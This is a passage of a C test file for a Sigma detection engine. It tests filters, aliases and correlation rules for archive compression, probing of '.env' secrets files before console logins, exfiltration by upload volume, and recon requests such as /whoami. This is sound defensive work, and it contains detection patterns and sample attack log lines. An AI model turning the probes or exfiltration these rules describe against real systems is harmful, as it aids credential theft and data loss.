                     "LAB\\\\adm_kim", "C:\\\\Windows\\\\explorer.exe")),
        "", "an administrator's compression is tuned away");
    cr_assert_str_eq(
        matches(PROC("C:\\\\Program Files\\\\WinRAR\\\\rar.exe", "rar a x.rar C:\\\\data",
                     "LAB\\\\wardog", "D:\\\\tools\\\\backup.exe")),
        "", "the filter's other selection");
    cr_assert_str_eq(matches(PROC("C:\\\\7-Zip\\\\7z.exe", "7z a x.7z", "LAB\\\\adm_kim",
                                  "C:\\\\Windows\\\\explorer.exe")),
                     "", "named by its name");
    cr_assert_str_eq(matches(PROC("C:\\\\7-Zip\\\\7z.exe", "7z a x.7z", "LAB\\\\wardog",
                                  "C:\\\\Windows\\\\explorer.exe")),
                     "7z compress");
#undef PROC
}

/* A filter that does not compile skips the rules it names, with the file. */
Test(sigma, a_broken_filter_skips_its_rules_naming_the_filter, .init = setup, .fini = teardown)
{
    put("rar.yml", RULE("00000000-0000-0000-0000-000000000062", "rar compress", WIN_PROC,
                        "  sel:\n    Image|endswith: '\\rar.exe'\n  condition: sel\n"));
    put("mf_bad.yml", "title: Broken filter\nid: 00000000-0000-0000-0000-0000000000f3\n"
                      "logsource:\n  product: windows\nfilter:\n"
                      "  rules: [00000000-0000-0000-0000-000000000062]\n"
                      "  selection:\n    User|sometimes: adm_\n  condition: selection\n");
    start();
    cr_assert_eq(rs->sigma.loaded, 0, "%s", rs->sigma.skips);
    cr_assert_eq(rs->sigma.by_reason[CR_SIGMA_SKIP_MODIFIER], 1, "%s", rs->sigma.skips);
    cr_assert(strstr(rs->sigma.skips, "mf_bad.yml"), "%s", rs->sigma.skips);
    cr_assert(strstr(rs->sigma.skips, "sometimes"), "%s", rs->sigma.skips);
}

/* Sigma `aliases`: the key of a correlation found in different fields per
 * rule, here across two logsources (a web scan's client address, then a
 * console login failure's source address): one engine, one key. */
Test(sigma, aliases_key_each_rule_by_its_own_field, .init = setup, .fini = teardown)
{
    char rules[1200], cfg[1200], fx[1200];
    snprintf(rules, sizeof rules, "%s/rules", dir);
    cr_assert_eq(mkdir(rules, 0755), 0);
    char text[4000];
    snprintf(text, sizeof text, "%s/rules/probe.yml", dir);
    const char *doc =
        "title: Dotenv file probed\nid: 00000000-0000-0000-0000-000000000070\nname: env_probe\n"
        "status: test\nlevel: low\nlogsource:\n  category: webserver\ndetection:\n  sel:\n"
        "    cs-uri-stem|endswith: '/.env'\n  condition: sel\n"
        "---\n"
        "title: Console login failure\nid: 00000000-0000-0000-0000-000000000071\n"
        "name: console_fail\nstatus: test\nlevel: low\nlogsource:\n  product: aws\n"
        "  service: cloudtrail\ndetection:\n  sel:\n    eventName: ConsoleLogin\n"
        "    errorMessage|exists: true\n  condition: sel\n"
        "---\n"
        "title: Secrets probed, then the console tried, from one address\n"
        "id: 00000000-0000-0000-0000-000000000072\nstatus: test\nlevel: high\n"
        "tags:\n  - attack.credential_access\ncorrelation:\n  type: temporal_ordered\n"
        "  rules: [env_probe, console_fail]\n  aliases:\n    ip:\n      env_probe: c-ip\n"
        "      console_fail: sourceIPAddress\n  group-by: [ip]\n  timespan: 10m\n";
    cr_assert_eq(cr_test_write_file(text, doc, strlen(doc)), 0);
#define PROBE(ip)                                                                                  \
    "'" ip " - - [02/Mar/2026:08:00:00 +0000] \"GET /.env HTTP/1.1\" 404 12 \"-\" \"curl/8\"'"
#define CONSOLE(ip)                                                                                \
    "'{\"eventTime\":\"2026-03-02T08:00:00Z\",\"eventSource\":\"signin.amazonaws.com\","           \
    "\"eventName\":\"ConsoleLogin\",\"sourceIPAddress\":\"" ip "\",\"userIdentity\":"              \
    "{\"type\":\"IAMUser\",\"userName\":\"ops\"},\"errorMessage\":\"Failed authentication\"}'"
    put("fx.yaml",
        "tests:\n"
        "  - name: the probe, then the console, from one address\n"
        "    events:\n      - { at: 0s, log: " PROBE(
            "203.0.113.9") " }\n"
                           "      - { at: 2m, log: " CONSOLE(
                               "203.0.113.9") " }\n"
                                              "    expect:\n      - { rule: "
                                              "00000000-0000-0000-0000-000000000072, "
                                              "priority: P2, entities: { src_ip: 203.0.113.9 } }\n"
                                              "    exact: true\n"
                                              "  - name: from two addresses they are not one "
                                              "actor\n"
                                              "    events:\n      - { at: 0s, log: " PROBE(
                                                  "203.0.113.9") " }\n"
                                                                 "      - { at: 2m, log: " CONSOLE(
                                                                     "198.51.100.4") " }\n"
                                                                                     "    exact: "
                                                                                     "true\n"
                                                                                     "  - name: "
                                                                                     "the console "
                                                                                     "first is not "
                                                                                     "the order\n"
                                                                                     "    "
                                                                                     "events:\n    "
                                                                                     "  - { at: "
                                                                                     "0s, "
                                                                                     "log:"
                                                                                     " " CONSOLE(
                                                                                         "203.0."
                                                                                         "113.9") " }\n"
                                                                                                  "      - { at: 2m, log: " PROBE(
                                                                                                      "203.0.113.9") " }\n"
                                                                                                                     "    exact: true\n");
#undef PROBE
#undef CONSOLE
    snprintf(fx, sizeof fx, "%s/fx.yaml", dir);
    snprintf(cfg, sizeof cfg, "%s/c.yaml", dir);
    snprintf(text, sizeof text, "rules: [%s, %s]\n", cr_test_source_path("configs/sigma"), rules);
    put("c.yaml", text);
    char *argv[] = {"test-rules", "-c", cfg, fx, NULL};
    cr_assert_eq(cr_cmd_test_rules(4, argv), 0, "the fixture must pass (see stdout)");
    const char *paths[] = {cr_test_source_path("configs/sigma"), rules};
    rs = cr_ruleset_load(paths, 2, NULL, err, sizeof err);
    cr_assert_not_null(rs, "%s", err);
    cr_assert_eq(rs->sigma.loaded, 3, "%s", rs->sigma.skips);
    cr_assert_eq(rs->ncorrs, 1);
    cr_assert_eq(rs->corrs[0].per_step_group_by, 1);
    cr_assert_str_eq(rs->field_names[rs->corrs[0].step_group_by[0][0]], "src_ip");
    cr_assert_str_eq(rs->field_names[rs->corrs[0].step_group_by[1][0]], "sourceIPAddress");
}

/* An alias that leaves a rule out is a skip that names the rule. */
Test(sigma, an_alias_missing_a_rule_is_skipped, .init = setup, .fini = teardown)
{
    put("a.yml", RULE("00000000-0000-0000-0000-000000000073", "a", WIN_PROC,
                      "  sel:\n    Image|endswith: '\\a.exe'\n  condition: sel\n"));
    put("b.yml", RULE("00000000-0000-0000-0000-000000000074", "b", WIN_PROC,
                      "  sel:\n    Image|endswith: '\\b.exe'\n  condition: sel\n"));
    put("c.yml", "title: c\nid: 00000000-0000-0000-0000-000000000075\ncorrelation:\n"
                 "  type: temporal\n  rules: [00000000-0000-0000-0000-000000000073, "
                 "00000000-0000-0000-0000-000000000074]\n  aliases:\n    who:\n"
                 "      00000000-0000-0000-0000-000000000073: User\n"
                 "  group-by: [who]\n  timespan: 1h\n");
    start();
    cr_assert_eq(rs->sigma.loaded, 2);
    cr_assert(strstr(rs->sigma.skips, "alias 'who' names no field for rule "
                                      "'00000000-0000-0000-0000-000000000074'"),
              "%s", rs->sigma.skips);
}

/* ---- value_sum, value_avg, value_percentile, temporal of N rules ---- */

/* Write `rules_text` as dir/rules/r.yml, the fixture `fixture` as
 * dir/fx.yaml, and run `corral test-rules` on them: its exit status. */
static int run_fixture(const char *rules_text, const char *fixture)
{
    char rules[1200], path[1300], cfg[1200], fx[1200], text[3000];
    snprintf(rules, sizeof rules, "%s/rules", dir);
    mkdir(rules, 0755);
    snprintf(path, sizeof path, "%s/r.yml", rules);
    cr_assert_eq(cr_test_write_file(path, rules_text, strlen(rules_text)), 0);
    put("fx.yaml", fixture);
    snprintf(fx, sizeof fx, "%s/fx.yaml", dir);
    snprintf(cfg, sizeof cfg, "%s/c.yaml", dir);
    snprintf(text, sizeof text, "rules: [%s, %s]\n", cr_test_source_path("configs/sigma"), rules);
    put("c.yaml", text);
    char *argv[] = {"test-rules", "-c", cfg, fx, NULL};
    int rc = cr_cmd_test_rules(4, argv);
    const char *paths[] = {cr_test_source_path("configs/sigma"), rules};
    rs = cr_ruleset_load(paths, 2, NULL, err, sizeof err);
    cr_assert_not_null(rs, "%s", err);
    return rc;
}

/* A web access record as JSON: a POST by `user` from 203.0.113.9 whose
 * body field is `bytes` (a JSON member text, such as "\"bytes_sent\":300000"). */
static const char *post(const char *user, const char *bytes)
{
    static char buf[16][400]; /* one fixture uses up to 16 at once */
    static int i;
    char *b = buf[i++ % 16];
    snprintf(b, 400,
             "'{\"time\":\"2026-03-02T08:00:00Z\",\"event_type\":\"http_request\","
             "\"action\":\"POST\",\"SourceIP\":\"203.0.113.9\",\"User\":\"%s\"%s%s}'",
             user, *bytes ? "," : "", bytes);
    return b;
}

static const char *EXFIL =
    "title: Website access\nid: 00000000-0000-0000-0000-000000000080\nname: website_access\n"
    "status: test\nlevel: low\nlogsource:\n  category: webserver\ndetection:\n  sel:\n"
    "    cs-method: POST\n  condition: sel\n"
    "---\n"
    "title: Possible Exfiltration to Website\nid: 00000000-0000-0000-0000-000000000081\n"
    "status: test\nlevel: high\ntags:\n  - attack.exfiltration\ncorrelation:\n"
    "  type: value_sum\n  rules:\n    - website_access\n  group-by:\n    - SourceIP\n"
    "    - User\n  timespan: 1h\n  condition:\n    field: bytes_sent\n    gt: 1000000\n";

/* The specification's value_sum example, on a realistic stream: the sum of
 * bytes_sent per SourceIP and User over an hour. */
Test(sigma, value_sum_fires_when_the_bytes_of_an_hour_cross, .init = setup, .fini = teardown)
{
    const char *b300 = "\"bytes_sent\":300000";
    char fx[8000];
    snprintf(fx, sizeof fx,
             "tests:\n"
             "  - name: four uploads of 300 kB in half an hour are 1.2 MB\n"
             "    events:\n"
             "      - { at: 0s, repeat: 4, every: 10m, log: %s }\n"
             "    expect:\n"
             "      - { rule: 00000000-0000-0000-0000-000000000081, priority: P2,\n"
             "          event_count: 4, entities: { SourceIP: 203.0.113.9, User: alice } }\n"
             "    exact: true\n"
             "  - name: three stay under 1 MB\n"
             "    events:\n"
             "      - { at: 0s, repeat: 3, every: 10m, log: %s }\n"
             "      - { at: 3h }\n"
             "    exact: true\n"
             "  - name: four spread over 90 minutes are never over 1 MB in an hour\n"
             "    events:\n"
             "      - { at: 0s, repeat: 4, every: 30m, log: %s }\n"
             "    exact: true\n"
             "  - name: two users are two keys\n"
             "    events:\n"
             "      - { at: 0s, repeat: 2, every: 1m, log: %s }\n"
             "      - { at: 5m, repeat: 2, every: 1m, log: %s }\n"
             "    exact: true\n"
             "  - name: a value that is not a number and a missing one are not counted\n"
             "    events:\n"
             "      - { at: 0s, repeat: 3, every: 1m, log: %s }\n"
             "      - { at: 4m, log: %s }\n"
             "      - { at: 5m, log: %s }\n"
             "      - { at: 6m, log: %s }\n"
             "    exact: true\n"
             "  - name: and the next number is\n"
             "    events:\n"
             "      - { at: 0s, repeat: 3, every: 1m, log: %s }\n"
             "      - { at: 4m, log: %s }\n"
             "      - { at: 5m, log: %s }\n"
             "    expect:\n"
             "      - { rule: 00000000-0000-0000-0000-000000000081, event_count: 4 }\n"
             "    exact: true\n",
             post("alice", b300), post("alice", b300), post("alice", b300), post("alice", b300),
             post("bob", b300), post("alice", b300), post("alice", "\"bytes_sent\":\"n/a\""),
             post("alice", ""), post("alice", "\"bytes_sent\":\"12kB\""), post("alice", b300),
             post("alice", "\"bytes_sent\":\"lots\""),
             post("alice", "\"bytes_sent\":\" 300001 \""));
    cr_assert_eq(run_fixture(EXFIL, fx), 0, "the fixture must pass (see stdout)");
    cr_assert_eq(rs->sigma.loaded, 2, "%s", rs->sigma.skips);
    int k = cr_ruleset_find_corr(rs, "00000000-0000-0000-0000-000000000081");
    cr_assert_geq(k, 0);
    cr_assert_eq(rs->corrs[k].type, CR_CORR_VALUE_SUM);
    cr_assert_eq(rs->corrs[k].num_lo, 1000000.0);
    cr_assert_eq(rs->corrs[k].num_lo_strict, 1);
    cr_assert_str_eq(rs->field_names[rs->corrs[k].value_field], "bytes_sent");
    cr_assert_str_eq(rs->corrs[k].incident.category, "S-DATA-LEAK", "attack.exfiltration");
}

/* The specification's value_avg example (BytesOut over 24 h, gt: 500), and
 * value_percentile as pySigma reads it (condition.percentile). */
Test(sigma, value_avg_and_value_percentile_on_both_sides, .init = setup, .fini = teardown)
{
    const char *rules =
        "title: Outbound\nid: 00000000-0000-0000-0000-000000000090\nname: out\nstatus: test\n"
        "level: low\nlogsource:\n  category: webserver\ndetection:\n  sel:\n"
        "    cs-method: POST\n  condition: sel\n"
        "---\n"
        "title: Suspicious average network traffic\nid: 00000000-0000-0000-0000-000000000091\n"
        "status: test\nlevel: medium\ncorrelation:\n  type: value_avg\n  rules: [out]\n"
        "  group-by: [SourceIP, User]\n  timespan: 24h\n  condition:\n    field: BytesOut\n"
        "    gt: 500\n"
        "---\n"
        "title: Slow uploads\nid: 00000000-0000-0000-0000-000000000092\nstatus: test\n"
        "level: medium\ncorrelation:\n  type: value_percentile\n  rules: [out]\n"
        "  group-by: [SourceIP]\n  timespan: 1h\n  generate: true\n  condition:\n"
        "    field: BytesOut\n    percentile: 50\n    gte: 10000\n";
    char fx[8000];
    snprintf(fx, sizeof fx,
             "tests:\n"
             "  - name: a mean of 400 is not over 500\n"
             "    events:\n"
             "      - { at: 0s, log: %s }\n"
             "      - { at: 1h, log: %s }\n"
             "    exact: true\n"
             "  - name: a mean of 600 is\n"
             "    events:\n"
             "      - { at: 0s, log: %s }\n"
             "      - { at: 1h, log: %s }\n"
             "    expect:\n"
             "      - { rule: 00000000-0000-0000-0000-000000000091, event_count: 2 }\n"
             "    exact: true\n"
             "  - name: one big of three is not the median\n"
             "    events:\n"
             "      - { at: 0s, log: %s }\n"
             "      - { at: 1m, log: %s }\n"
             "      - { at: 2m, log: %s }\n"
             "    expect:\n"
             "      - { rule: 00000000-0000-0000-0000-000000000091 }\n"
             "    expect_none:\n"
             "      - { rule: 00000000-0000-0000-0000-000000000092 }\n"
             "  - name: two big of three are\n"
             "    events:\n"
             "      - { at: 0s, log: %s }\n"
             "      - { at: 1m, log: %s }\n"
             "      - { at: 2m, log: %s }\n"
             "    expect:\n"
             "      - { rule: 00000000-0000-0000-0000-000000000092, event_count: 3 }\n",
             post("u", "\"BytesOut\":300"), post("u", "\"BytesOut\":500"),
             post("u", "\"BytesOut\":700"), post("u", "\"BytesOut\":500"),
             post("u", "\"BytesOut\":100"), post("u", "\"BytesOut\":100"),
             post("u", "\"BytesOut\":90000"), post("u", "\"BytesOut\":100"),
             post("u", "\"BytesOut\":20000"), post("u", "\"BytesOut\":90000"));
    cr_assert_eq(run_fixture(rules, fx), 0, "the fixture must pass (see stdout)");
    cr_assert_eq(rs->sigma.loaded, 3, "%s", rs->sigma.skips);
    int k = cr_ruleset_find_corr(rs, "00000000-0000-0000-0000-000000000092");
    cr_assert_eq(rs->corrs[k].type, CR_CORR_VALUE_PERCENTILE);
    cr_assert_eq(rs->corrs[k].percentile, 50);
}

/* temporal with a condition: `gte: 2` of its 3 rules (the specification:
 * "the count of different event types"). */
Test(sigma, temporal_with_a_condition_needs_that_many_of_its_rules, .init = setup, .fini = teardown)
{
    const char *rules =
        "title: whoami\nid: 00000000-0000-0000-0000-0000000000a0\nname: recon_a\nstatus: test\n"
        "level: low\nlogsource:\n  category: webserver\ndetection:\n  sel:\n"
        "    cs-uri-stem|endswith: '/whoami'\n  condition: sel\n"
        "---\n"
        "title: id\nid: 00000000-0000-0000-0000-0000000000a1\nname: recon_b\nstatus: test\n"
        "level: low\nlogsource:\n  category: webserver\ndetection:\n  sel:\n"
        "    cs-uri-stem|endswith: '/id'\n  condition: sel\n"
        "---\n"
        "title: uname\nid: 00000000-0000-0000-0000-0000000000a2\nname: recon_c\nstatus: test\n"
        "level: low\nlogsource:\n  category: webserver\ndetection:\n  sel:\n"
        "    cs-uri-stem|endswith: '/uname'\n  condition: sel\n"
        "---\n"
        "title: Two kinds of recon\nid: 00000000-0000-0000-0000-0000000000a3\nstatus: test\n"
        "level: high\ncorrelation:\n  type: temporal\n  rules: [recon_a, recon_b, recon_c]\n"
        "  group-by: [c-ip]\n  timespan: 5m\n  condition:\n    gte: 2\n";
#define GET(path)                                                                                  \
    "'203.0.113.9 - - [02/Mar/2026:08:00:00 +0000] \"GET " path " HTTP/1.1\" 404 1 \"-\" \"x\"'"
    const char *fx =
        "tests:\n"
        "  - name: one kind twice is one\n"
        "    events:\n"
        "      - { at: 0s, repeat: 2, every: 1m, log: " GET(
            "/whoami") " }\n"
                       "    exact: true\n"
                       "  - name: two kinds within 5 minutes\n"
                       "    events:\n"
                       "      - { at: 0s, log: " GET(
                           "/whoami") " }\n"
                                      "      - { at: 4m, log: " GET(
                                          "/uname") " }\n"
                                                    "    expect:\n"
                                                    "      - { rule: "
                                                    "00000000-0000-0000-0000-0000000000a3, "
                                                    "event_count: 2 }\n"
                                                    "    exact: true\n"
                                                    "  - name: two kinds 6 minutes apart\n"
                                                    "    events:\n"
                                                    "      - { at: 0s, log: " GET(
                                                        "/id") " }\n"
                                                               "      - { at: 6m, log: " GET(
                                                                   "/uname") " }\n"
                                                                             "    exact: true\n";
#undef GET
    cr_assert_eq(run_fixture(rules, fx), 0, "the fixture must pass (see stdout)");
    int k = cr_ruleset_find_corr(rs, "00000000-0000-0000-0000-0000000000a3");
    cr_assert_geq(k, 0, "%s", rs->sigma.skips);
    cr_assert_eq(rs->corrs[k].gte, 2);
}
